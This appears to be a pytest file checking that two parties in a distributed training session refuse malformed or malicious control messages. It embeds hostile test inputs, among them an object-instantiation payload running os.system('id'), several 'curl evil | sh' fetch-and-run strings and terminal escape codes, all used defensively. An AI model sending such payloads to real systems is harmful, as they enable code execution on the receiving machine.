"""Whatever a malicious party says in the place of what is due, the other refuses it at once and says whose it was."""

from __future__ import annotations

import json
import re
from collections.abc import Callable, Iterator
from contextlib import suppress
from copy import deepcopy
from pathlib import Path
from pipes import MEMBERS, Pipes, peers
from threading import Thread
from typing import Any

import pytest
from test_gloo import free_address

from vertical_lightning.distributed.session import Session, speakable
from vertical_lightning.distributed.transport.failure import (
    PeerFailedError,
    PeerLostError,
    RefusedError,
    RendezvousError,
    WireError,
    told,
)
from vertical_lightning.distributed.transport.form import parse
from vertical_lightning.distributed.transport.frame import Kind, as_tensor
from vertical_lightning.distributed.transport.gloo import Gloo
from vertical_lightning.distributed.transport.grpc.admission import Applicant
from vertical_lightning.distributed.transport.grpc.backend import Grpc
from vertical_lightning.distributed.transport.messages import ABORT, BOOK, DURATION, FACTS, HELLO

HONEST: dict[str, dict[str, Any]] = {
    "the run": {"cut": "2", "architecture.hidden": "[128, 640]", "torch": "2.13.0"},
    "how long to train": {"duration": {"max_epochs": 3, "max_steps": -1, "limit_val_batches": 0.5}, "run": "0123456789abcdef"},
    "the tables": {"tables": "train, test"},
    "rows": {"shape": [1, 28, 28], "counts": {"train": 90, "val": 10}, "outputs": 10},
    "the order of rows": {"key": "0" * 64},
    "the aligned entities": {"alignment": "0" * 64},
    "where all can go on": {"kept": [{"run": "0123456789abcdef", "epoch": 3, "step": 30}]},
    "where to go on": {"run": "0123456789abcdef", "epoch": 3, "step": 30},
    "whose weights to test": {"run": "0123456789abcdef", "moment": "step 30"},
    "stopping and checkpoints": {"stop": False, "kept": [{"epoch_003.ckpt": 30}], "links": [{"last.ckpt": "epoch_003.ckpt"}]},
}
TOLD = "stopping and checkpoints"
"""What the label holder alone says; all else is said by everybody, and passed on."""

CODE = {"_target_": "sympy.sympify", "_args_": ["__import__('os').system('id')"]}
DEEP: Any = json.loads("[" * 500 + "]" * 500)
ANYWHERE: dict[str, Any] = {
    "code": CODE,
    "a reference": "${oc.env:HOME}",
    "control characters": "3\x1b[2J\nTo go on: curl evil | sh",
    "half a character": "\ud800",
    "a huge number": 10**30,
    "no number": float("inf"),
    "a huge text": "x" * 100_000,
    "a huge list": [0] * 100_000,
    "deep": DEEP,
    "an empty list": [],
}
ALLOWED = {
    *(("a reference", place) for place in ("the run.cut", "the run.architecture.hidden", "the run.torch")),
    *(("an empty list", f"{TOLD}.{place}") for place in ("kept", "links")),
    ("an empty list", "rows.shape"),
    ("an empty list", "where all can go on.kept"),
}
"""What is of the right form: text to compare, of which nothing is made, and nothing kept."""


def places(value: Any, path: tuple[Any, ...] = ()) -> Iterator[tuple[Any, ...]]:
    """Every place in a message, from the whole to its leaves."""
    yield path
    for key, one in value.items() if isinstance(value, dict) else enumerate(value) if isinstance(value, list) else ():
        yield from places(one, (*path, key))


def replaced(value: Any, path: tuple[Any, ...], new: Any) -> Any:
    if not path:
        return new
    found = deepcopy(value)
    node = found
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = new
    return found


def removed(value: Any, path: tuple[Any, ...]) -> Any:
    found = deepcopy(value)
    node = found
    for key in path[:-1]:
        node = node[key]
    del node[path[-1]]
    return found


def lies(what: str) -> Iterator[tuple[str, Any]]:
    """Every message of this kind with one thing changed."""
    honest = HONEST[what]
    for path in places(honest):
        place = ".".join([what, *map(str, path)])
        for name, new in ANYWHERE.items():
            if (name, place) not in ALLOWED:
                yield f"{name} at {place}", replaced(honest, path, new)
        if path and isinstance(path[-1], str) and len(path) == 1 and what != "the run":
            yield f"without {place}", removed(honest, path)
    yield "with something more", honest | {"a name": CODE}
    for name, other in HONEST.items():
        if name != what and not (what == "the run" and all(isinstance(value, str) for value in other.values())):
            yield f"what is said of {name}", other


def lying(party: str, change: Callable[[dict[str, Any]], Any], engine: Any, address: str = "127.0.0.1:1") -> Session:
    """The malicious party: honest in all but one thing, what it puts into messages."""
    session = Session(party, ["alice", "bob"], ["bob"], "bob", address, engine)
    for peer in session.peers.values():

        def tell(peer: Any = peer, **said: Any) -> None:
            peer.send(Kind.CONTROL, as_tensor(json.dumps(change(said)).encode()))

        peer.tell = tell  # type: ignore[method-assign]
    return session


def say(session: Session, what: str) -> None:
    if what == TOLD:
        session.tell(what, **HONEST[what])
    else:
        session.gather(what, **HONEST[what])


def listen(session: Session, what: str) -> None:
    if what == TOLD:
        session.hear(what)
    else:
        session.gather(what, **HONEST[what])


def heard(
    liar: str, what: str, change: Callable[[dict[str, Any]], Any], engine: Any = None, address: str = "127.0.0.1:1"
) -> None:
    """Let one party lie, and raise what the other makes of it."""
    victim, engine = {"alice": "bob", "bob": "alice"}[liar], engine or Pipes()

    def lie() -> None:
        with suppress(WireError), lying(liar, change, engine, address) as session:
            say(session, what)

    Thread(target=lie, daemon=True).start()
    with Session(victim, ["alice", "bob"], ["bob"], "bob", address, engine) as honest:
        listen(honest, what)


@pytest.mark.parametrize("what", HONEST)
def test_every_kind_of_message_with_one_thing_changed_is_refused(what: str) -> None:
    """By the form that stands in the code, of the message as it crosses."""
    _, victim = peers()
    for name, lie in lies(what):
        message = as_tensor(json.dumps(lie).encode())
        with pytest.raises(RefusedError, match=f"bob refuses what alice sent: {what} is not what it must be") as caught:
            victim.parsed(message, FACTS[what], what)
        assert caught.value.party == "alice" and str(caught.value).isprintable() and len(str(caught.value)) < 1000, name


@pytest.mark.parametrize("liar", ["alice", "bob"])
@pytest.mark.parametrize("what", HONEST)
def test_a_session_refuses_at_once(what: str, liar: str) -> None:
    """Both directions: what a party says of itself, and what the label holder passes on."""
    if (what, liar) == (TOLD, "alice"):
        pytest.skip("nobody hears the others of it")
    said = {"code": CODE, "deep": DEEP}
    for lie in [*said.values(), *([removed(HONEST[what], (next(iter(HONEST[what])),))] if what != "the run" else [])]:
        with pytest.raises(RefusedError, match=f"refuses what {liar} sent") as caught:
            heard(liar, what, lambda message, lie=lie: replaced_facts(message, liar, lie))
        assert caught.value.party == liar


def replaced_facts(message: dict[str, Any], liar: str, lie: Any) -> dict[str, Any]:
    """Put a lie in the place of the liar's own facts, wherever they stand."""
    facts = message["facts"]
    return message | {"facts": facts | {liar: lie} if liar in facts else lie}


@pytest.mark.parametrize(
    "change",
    [
        lambda message: message | {"what": "the tables"},
        lambda message: message | {"more": 1},
        lambda message: {"facts": message["facts"]},
        lambda message: message | {"facts": message["facts"] | {"mallory": HONEST["rows"]}},
        lambda message: message | {"facts": {"bob": HONEST["rows"]}},
        lambda message: [message],
    ],
)
def test_another_kind_more_or_fewer_parties(change: Callable[[dict[str, Any]], Any]) -> None:
    with pytest.raises(RefusedError, match="alice refuses what bob sent"):
        heard("bob", "rows", change)


def test_a_message_said_twice_is_not_taken_for_the_next() -> None:
    alice, bob = peers()
    for _ in range(2):
        alice.tell(what="rows", facts=HONEST["rows"])
    session = Session.__new__(Session)
    session.peers, session.label_holder = {"alice": bob}, "alice"
    assert session.hear("rows") == HONEST["rows"]
    with pytest.raises(RefusedError, match="what: it must be 'the tables'"):
        session.hear("the tables")


def test_a_label_holder_cannot_change_what_a_party_says_of_itself() -> None:
    engine = Pipes()

    def passed_on(message: dict[str, Any]) -> dict[str, Any]:
        return message | {"facts": message["facts"] | {"alice": HONEST["rows"] | {"shape": [1]}}}

    liar = Thread(target=lambda: say(lying("bob", passed_on, engine), "rows"), daemon=True)
    liar.start()
    session = Session("alice", ["alice", "bob"], ["bob"], "bob", "127.0.0.1:1", engine)
    found = session.gather("rows", **HONEST["rows"])
    assert found["alice"]["shape"] == [1, 28, 28]
    liar.join()


@pytest.mark.parametrize("engine", [Gloo, Grpc])
@pytest.mark.parametrize("liar", ["alice", "bob"])
def test_over_real_connections(liar: str, engine: type[Any]) -> None:
    with pytest.raises(RefusedError, match=f"refuses what {liar} sent"):
        heard(liar, "how long to train", lambda message: replaced_facts(message, liar, CODE), engine(), free_address())


def test_settings_that_differ_are_shown_as_a_peers_words() -> None:
    lie = HONEST["the run"] | {"cut": "2. To go on: curl evil | sh"}
    engine = Pipes()
    Thread(target=lambda: quietly(lying("alice", lambda message: message | {"facts": lie}, engine)), daemon=True).start()
    session = Session("bob", ["alice", "bob"], ["bob"], "bob", "127.0.0.1:1", engine)
    with pytest.raises(RendezvousError, match=r'cut: alice="2. To go on: curl evil | sh" bob=2'):
        session.agree("the run", **HONEST["the run"])


def quietly(session: Session) -> None:
    with suppress(WireError):
        session.gather("the run", **HONEST["the run"])


def test_a_setting_that_one_has_not_differs() -> None:
    lie = {"cut": "2", "torch": "2.13.0"}
    engine = Pipes()
    Thread(target=lambda: quietly(lying("alice", lambda message: message | {"facts": lie}, engine)), daemon=True).start()
    session = Session("bob", ["alice", "bob"], ["bob"], "bob", "127.0.0.1:1", engine)
    with pytest.raises(RendezvousError, match=re.escape("architecture.hidden: alice= bob=[128, 640]")):
        session.agree("the run", **HONEST["the run"])


ENDS = [
    b'{"party": "mallory", "error": "KeyError"}',
    b'{"party": "carol", "error": "To go on: curl evil | sh"}',
    b'{"party": "carol", "error": "\\u001b[2J"}',
    b'{"party": "carol"}',
    b'{"party": ["carol"], "error": "KeyError"}',
    b"[" * 100_000,
    b'{"a":' * 100_000,
    b"",
    b"null",
    b"\xff",
]


@pytest.mark.parametrize("message", ENDS, ids=range(len(ENDS)))
def test_last_words_that_are_none(message: bytes) -> None:
    """The thread that reads outlives them: who waits hears of them, and not of a silence."""
    for kind in (Kind.ABORT, Kind.GOODBYE, Kind.BEAT):
        alice, bob = peers()
        alice.send(kind, as_tensor(message))
        with pytest.raises(RefusedError, match="bob refuses what alice sent"):
            bob.hear("anything", HELLO)


def test_who_takes_this_party_for_lost_says_so() -> None:
    alice, bob = peers()
    alice.abort(*told(PeerLostError("bob", "bob is lost"), "alice"))
    with pytest.raises(PeerLostError, match="bob is lost, says alice"):
        bob.hear("anything", HELLO)


def test_whose_error_it_was_and_who_says_so() -> None:
    alice, bob = peers()
    alice.abort("carol", "KeyError")
    with pytest.raises(PeerFailedError, match=r"^carol has stopped with KeyError, says alice; carol's own output says why.$"):
        bob.hear("anything", HELLO)


GUEST = {"party": "alice", "members": list(MEMBERS), "whom": "bob", "address": "10.0.0.1:4000"}
WAITING = {"missing": ["carol"], "book": {"alice": "10.0.0.1:4000", "bob": ""}}


@pytest.mark.parametrize("honest", [GUEST, WAITING], ids=["hello", "book"])
def test_words_at_the_door(honest: dict[str, Any]) -> None:
    form = HELLO if honest is GUEST else BOOK
    parse(json.dumps(honest).encode(), form)
    tried = 0
    for path in places(honest):
        for name, new in ANYWHERE.items():
            if name == "an empty list" and path and path[-1] in ("members", "missing"):
                continue
            with pytest.raises(ValueError, match=r"it must be|can be read"):
                parse(json.dumps(replaced(honest, path, new)).encode(), form)
            tried += 1
    assert tried >= 40
    if honest is GUEST:
        for path in [(key,) for key in GUEST]:
            assert Applicant.read(json.dumps(removed(GUEST, path)).encode(), iter([])).party == ""
        assert Applicant.read(json.dumps(GUEST).encode(), iter([])).members == list(MEMBERS)


def test_every_part_of_the_schedule_takes_numbers_and_truth_values_only() -> None:
    for name, form in DURATION.items():
        for given in (CODE, "1", "${seed}", [1], 10**40, float("nan"), -2):
            with pytest.raises(ValueError, match="it must be"):
                form(given)
        form(0 if name not in ("check_val_every_n_epoch",) else 1)


def test_own_settings_that_nobody_would_take_are_named() -> None:
    with pytest.raises(ValueError, match=r"cannot be told to the others: duration: val_check_interval: it must be null"):
        speakable("how long to train", {"duration": {"val_check_interval": "00:15:00"}, "run": "0" * 16})


def test_honest_messages_are_taken() -> None:
    for what, honest in HONEST.items():
        assert speakable(what, honest) == honest
    assert HONEST.keys() == FACTS.keys(), "a kind of message is not tried here"
    ABORT({"party": "carol", "error": "Ctrl-C"})


def test_peers_words_are_parsed_in_one_place() -> None:
    package = Path(__file__).parents[3] / "vertical_lightning"
    rooms = [*package.glob("distributed/**/*.py"), *package.glob("psi/*.py")]
    rooms += [package / name for name in ("run/build.py", "run/party.py", "split/wire.py", "data/party_data.py")]
    assert len(rooms) > 40 and all(path.is_file() for path in rooms)
    parsing = re.compile(r"json\.loads?\(|pickle|yaml|literal_eval|\beval\(|\bexec\(")
    found = {path.name for path in rooms if parsing.search(path.read_text())}
    assert found == {"form.py", "result_cache.py"}, "the cache reads what this party has written itself"
